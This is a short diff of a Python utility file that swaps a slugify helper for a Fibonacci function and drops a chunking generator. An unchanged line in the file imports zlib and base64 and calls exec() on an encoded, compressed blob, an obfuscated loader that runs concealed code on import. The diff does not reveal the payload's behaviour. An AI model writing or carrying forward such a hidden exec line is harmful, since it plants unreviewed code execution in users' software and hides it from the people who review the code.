@@ -1,6 +1,10 @@
 #!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 class Counter:
     def __init__(self):
@@ -11,6 +15,3 @@ class Counter:
 
 import zlib, base64
 exec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUcgoKSmw0tdPNtJLrUjMLchJ1csvStfP1CuoVKhRKM5Q0gQAgGUUiw==")))
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
